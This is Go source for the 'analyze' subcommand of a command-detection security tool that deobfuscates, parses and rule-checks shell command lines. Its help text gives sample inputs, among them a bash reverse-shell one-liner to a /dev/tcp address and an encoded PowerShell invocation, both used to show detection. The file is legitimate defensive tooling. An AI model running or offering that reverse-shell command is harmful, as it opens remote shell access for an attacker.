package main

import (
	"fmt"
	"io"
	"strings"

	"github.com/spf13/cobra"

	"github.com/vigilsec/vigil/internal/command"
	"github.com/vigilsec/vigil/internal/command/rules"
	"github.com/vigilsec/vigil/internal/deobfuscate"
)

func init() { subcommands = append(subcommands, newAnalyzeCmd) }

func newAnalyzeCmd() *cobra.Command {
	var format string
	var ruleFiles []string
	var noBuiltin bool
	c := &cobra.Command{
		Use:   "analyze [--format text|json] [--rules FILE...] [COMMAND]",
		Short: "Deobfuscate, parse and apply the rules to a command line (no models)",
		Long: `analyze runs the model-free half of the command detector on one command line:
deobfuscation (with its trace), parsing (segments, indicators, residual) and
the rule set (built-in rules plus any --rules files), and prints what each
stage found. The command line comes from the arguments, or stdin when there
are none.

Examples:
  vigil analyze 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
  vigil analyze --format json 'powershell -enc dwBoAG8AYQBtAGkA'
  vigil analyze --rules my-allowlist.yaml 'crontab -l'`,
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := checkFormat(format, "text", "json"); err != nil {
				return err
			}
			line, err := commandArg(cmd, args)
			if err != nil {
				return err
			}
			a, err := newAnalyzer(noBuiltin, ruleFiles)
			if err != nil {
				return err
			}
			an, err := a.Analyze(line)
			if err != nil {
				return err
			}
			if format == "json" {
				return writeJSON(cmd.OutOrStdout(), an)
			}
			printAnalysis(cmd.OutOrStdout(), an)
			return nil
		},
	}
	// Flags go before the command line, so its own flags (powershell -enc ...)
	// need no quoting: vigil deobfuscate powershell -enc ZABpAHIA
	c.Flags().SetInterspersed(false)
	c.Flags().StringVar(&format, "format", "text", "output format: text or json")
	c.Flags().StringSliceVar(&ruleFiles, "rules", nil, "extra rule files (YAML) to load after the built-in set")
	c.Flags().BoolVar(&noBuiltin, "no-builtin", false, "do not load the built-in rule set")
	return c
}

// newAnalyzer loads the rule set and returns an analyzer with default limits.
func newAnalyzer(noBuiltin bool, files []string) (*command.Analyzer, error) {
	eng, err := rules.Load(!noBuiltin, files...)
	if err != nil {
		return nil, fmt.Errorf("load rules: %w", err)
	}
	return command.NewAnalyzer(eng, deobfuscate.DefaultLimits()), nil
}

func printAnalysis(w io.Writer, an *command.Analysis) {
	d := an.Deobfuscation
	fmt.Fprintf(w, "command       %s\n", an.Command)
	if d.Changed {
		fmt.Fprintf(w, "deobfuscated  %s\n", d.Deobfuscated)
		for _, s := range d.Steps {
			fmt.Fprintf(w, "  pass %d %-26s %s\n", s.Pass, s.Transform, s.After)
		}
	}
	if d.Limit != "" {
		fmt.Fprintf(w, "  stopped by limit: %s\n", d.Limit)
	}
	p := an.Parsed
	fmt.Fprintf(w, "platform      %s (%s)\n", p.Platform, p.Shell)
	for _, s := range p.Segments {
		fmt.Fprintf(w, "segment       %s %s flags=%v args=%v %s\n", s.Executable, s.Subcommand, s.Flags, s.Args, s.Operator)
	}
	fmt.Fprintf(w, "residual      %s\n", p.Residual)
	if len(an.Rules) == 0 {
		fmt.Fprintln(w, "rules         none fired")
	}
	for _, h := range an.Rules {
		fmt.Fprintf(w, "rule          %-16s %-9s %s  %s\n", h.Action, h.Level, h.ID, strings.Join(h.Tags, ","))
	}
	if len(an.Warnings) > 0 {
		fmt.Fprintf(w, "warnings      %s\n", strings.Join(an.Warnings, ", "))
	}
	fmt.Fprintf(w, "elapsed       %d µs\n", an.ElapsedUS)
}
